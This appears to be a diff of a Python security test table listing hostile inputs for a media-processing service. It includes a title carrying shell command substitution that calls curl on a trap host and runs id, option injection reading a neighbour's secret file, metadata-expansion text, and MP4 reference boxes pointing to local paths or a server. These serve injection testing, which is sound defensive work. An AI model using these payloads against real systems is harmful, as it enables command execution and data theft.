@@ -120,7 +120,7 @@ TRICKS: dict[str, tuple[Trick, str | None]] = {
     "a title that is a command": (lambda shop: shop.told("t2.mkv", f"$(curl {shop.traps.http})`id`;id"), None),
     "a title that is options": (lambda shop: shop.told("t3.mp4", f"x -i {shop.traps.of('secret.mp4')} -map 1"), None),
     "a title that is drawn text": (lambda shop: shop.told("t4.mp4", "%{metadata\\:title}%{eif\\:1\\:d}"), None),
-    "samples in a neighbour's file by an alias": (dref(lambda traps: alias(traps.of("secret.mp4"))), "unreadable"),
+    "samples in a neighbour's file by an alias": (dref(lambda traps: alias(traps.of("secret.mp4"))), None),
     "samples in a neighbour's file by a path": (
         dref(lambda traps: box(b"url ", b"\0\0\0\0", f"file://{traps.of('secret.mp4')}\0".encode())), None),
     "samples on a server": (dref(lambda traps: box(b"url ", b"\0\0\0\0", f"{traps.http}/a.mp4\0".encode())), None),
